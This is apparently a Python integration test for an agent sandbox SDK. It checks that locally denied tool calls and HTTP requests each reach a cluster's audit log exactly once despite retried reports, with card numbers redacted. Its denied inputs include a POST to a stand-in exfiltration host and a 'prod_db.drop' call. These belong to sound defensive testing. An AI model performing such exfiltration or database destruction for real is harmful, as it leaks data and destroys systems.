"""Local denials on a live cluster: decided without a round trip, and each in the audit exactly
once, even when a report's answer is lost and the report is sent again to another node."""

from __future__ import annotations

import json

from cluster import Cluster, eventually
from conftest import AGENT, KEY
from fakes import DroppingProxy

from agent_sandbox import SandboxClient


def audit_records(cluster: Cluster) -> list[dict]:
    records = cluster.admin("GET", "/v1/audit/export?from=0&to=9999999999")
    assert isinstance(records, list)
    return records


def test_local_denials_reach_the_audit_exactly_once(cluster: Cluster) -> None:
    proxy = DroppingProxy(cluster.url(1), drops=1)  # the first report is recorded, its answer lost
    try:
        with SandboxClient(trust_env=False, endpoints=[proxy.url], agent_id=AGENT, agent_api_key=KEY,
                           policy_public_key=cluster.keys_json()) as client:
            assert client.wait_for_policy() is not None
            denied = [client.tool_call("payments.charge", {"amount": n, "card": "4111 1111 1111 1111"})
                      for n in range(5)]
            denied.append(client.http_request("POST", "https://exfiltrate.example.net/upload"))
            assert all(d["decision"] == "deny" and d.get("local") for d in denied), denied
            assert client.flush_local_denials(timeout=20)
            reporter = client.reporter
            assert reporter is not None and reporter.dropped == 0 and reporter.duplicates == len(denied)
            deep = client.tool_call("crm.read", {"customer_id": "7"}, chain_depth=9)
            assert deep["decision"] == "deny" and not deep.get("local"), deep  # the server judges chain depth
    finally:
        proxy.close()
    ids = {d["request_id"] for d in denied}
    assert proxy.forwarded == [("", 200)], proxy.forwarded  # the report was recorded, then sent again
    records = audit_records(cluster)
    ours = [r for r in records if r.get("request_id") in ids]
    assert sorted(r["request_id"] for r in ours) == sorted(ids), ours  # each exactly once
    assert all(r.get("decided_by") == "sdk" for r in ours), ours
    # Redacted as decisions are. Only the requests are searched: a record's hashes (hex) and time
    # may hold "4111" by chance (CI once failed on that).
    cards = [r["request"]["params"]["card"] for r in ours if r["request"].get("tool") == "payments.charge"]
    assert cards == ["[REDACTED:CREDIT_CARD]"] * 5, ours
    assert all("4111" not in json.dumps(r["request"]) for r in ours), ours


def test_a_report_sent_again_is_recorded_once(cluster: Cluster) -> None:
    with SandboxClient(trust_env=False, endpoints=[cluster.url(3)], agent_id=AGENT, agent_api_key=KEY,
                       policy_public_key=cluster.keys_json()) as client:
        client.wait_for_policy()
        denied = client.tool_call("prod_db.drop", {})
        assert denied.get("local") and client.flush_local_denials(timeout=20)
    report = {"denials": [{"request_id": denied["request_id"], "kind": "tool", "tool": "prod_db.drop", "params": {},
                           "rule": denied["rule"], "reason": denied["reason"],
                           "policy_version": denied["policy_version"]}]}
    for node in (1, 2):
        answer = cluster.http.post(cluster.url(node) + "/v1/audit/local-denials", json=report,
                                   headers={"X-Agent-Key": KEY})
        assert answer.status_code == 200 and answer.json() == {"recorded": 0, "duplicates": 1}, answer.text
    eventually("the audit record", lambda: any(r.get("request_id") == denied["request_id"]
                                                for r in audit_records(cluster)))
    assert [r.get("request_id") for r in audit_records(cluster)].count(denied["request_id"]) == 1
